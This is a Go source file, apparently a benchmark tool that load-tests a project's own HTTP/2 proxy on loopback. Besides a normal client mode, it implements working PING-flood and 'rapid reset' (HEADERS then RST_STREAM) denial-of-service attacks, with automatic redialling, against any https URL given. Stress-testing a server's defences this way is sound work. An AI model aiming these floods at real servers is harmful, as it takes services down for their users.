// Command h2flood is bench/h2-abuse.sh's load: legitimate HTTP/2 clients
// (net/http's transport, -c connections each asked by -workers goroutines
// in a loop) that report their throughput, or an HTTP/2 flood on -c
// connections:
//
//	ping   PING frames as fast as the connection takes them
//	reset  requests each reset at once (HEADERS then RST_STREAM: rapid reset)
//
// A flooding connection that the server closes is dialled again, at most
// -redial a second in all: what listingproxy's per-address bound on new
// connections (server.new_conns_per_second_per_address, 50) allows a client
// that is not on loopback (loopback is exempt from it, and this runs on
// loopback). It prints what it did on one line when -d is over.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/time/rate"
)

func main() {
	mode := flag.String("mode", "legit", "legit, ping or reset")
	target := flag.String("url", "", "https URL to ask (legit) or to reset (reset)")
	user := flag.String("user", "harbour:harbour-demo", "user:password of the requests")
	conns := flag.Int("c", 8, "connections")
	workers := flag.Int("workers", 8, "legit: goroutines per connection")
	d := flag.Duration("d", 5*time.Second, "how long")
	redial := flag.Float64("redial", 50, "flood: new connections a second, in all")
	flag.Parse()
	u, err := url.Parse(*target)
	if err != nil || u.Scheme != "https" {
		fmt.Fprintln(os.Stderr, "h2flood: -url must be an https URL")
		os.Exit(2)
	}
	auth := "Basic " + base64.StdEncoding.EncodeToString([]byte(*user))
	ctx, cancel := context.WithTimeout(context.Background(), *d)
	defer cancel()
	switch *mode {
	case "legit":
		legit(ctx, u, auth, *conns, *workers, *d)
	case "ping", "reset":
		flood(ctx, *mode, u, auth, *conns, rate.NewLimiter(rate.Limit(*redial), max(1, int(*redial))))
	default:
		fmt.Fprintln(os.Stderr, "h2flood: -mode must be legit, ping or reset")
		os.Exit(2)
	}
}

// legit asks u on conns HTTP/2 connections until ctx ends and prints
// "req/s=X errors=N".
func legit(ctx context.Context, u *url.URL, auth string, conns, workers int, d time.Duration) {
	var ok, bad atomic.Int64
	var wg sync.WaitGroup
	for range conns {
		tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, Protocols: new(http.Protocols)}
		tr.Protocols.SetHTTP2(true)
		defer tr.CloseIdleConnections()
		c := &http.Client{Transport: tr}
		for range workers {
			wg.Go(func() {
				for ctx.Err() == nil {
					req, _ := http.NewRequestWithContext(ctx, http.MethodGet, u.String(), nil)
					req.Header.Set("Authorization", auth)
					resp, err := c.Do(req)
					if err != nil {
						if ctx.Err() == nil {
							bad.Add(1)
						}
						continue
					}
					_, _ = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					if resp.StatusCode == 200 && resp.ProtoMajor == 2 {
						ok.Add(1)
					} else {
						bad.Add(1)
					}
				}
			})
		}
	}
	wg.Wait()
	fmt.Printf("req/s=%.0f errors=%d\n", float64(ok.Load())/d.Seconds(), bad.Load())
}

// flood runs conns flooding connections until ctx ends and prints how many
// frames it sent and how many connections the server closed.
func flood(ctx context.Context, mode string, u *url.URL, auth string, conns int, redial *rate.Limiter) {
	var frames, dials, closed atomic.Int64
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				if redial.Wait(ctx) != nil {
					return
				}
				dials.Add(1)
				if err := floodOne(ctx, mode, u, auth, &frames); err != nil && ctx.Err() == nil {
					closed.Add(1)
				}
			}
		})
	}
	wg.Wait()
	fmt.Printf("%s: frames=%d dials=%d closed_by_server=%d\n", mode, frames.Load(), dials.Load(), closed.Load())
}

// floodOne floods one connection until it fails or ctx ends.
func floodOne(ctx context.Context, mode string, u *url.URL, auth string, frames *atomic.Int64) error {
	var dialer tls.Dialer
	dialer.Config = &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}
	nc, err := dialer.DialContext(ctx, "tcp", u.Host)
	if err != nil {
		return err
	}
	defer nc.Close()
	stop := context.AfterFunc(ctx, func() { nc.Close() })
	defer stop()
	fr := http2.NewFramer(nc, nc)
	go func() { // drain the server's frames (PING acks, answers) so that its writes never block
		for {
			if _, err := fr.ReadFrame(); err != nil {
				nc.Close()
				return
			}
		}
	}()
	if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
		return err
	}
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if mode == "ping" {
			err = fr.WritePing(false, [8]byte{byte(id)})
		} else {
			hbuf.Reset()
			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", u.RequestURI()}, {":authority", u.Host}, {"authorization", auth}} {
				_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
			}
			err = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndStream: true, EndHeaders: true})
			if err == nil {
				err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if id > 1<<30 {
				return nil // stream ids spent: a new connection
			}
		}
		if err != nil {
			return err
		}
		frames.Add(1)
	}
	return nil
}
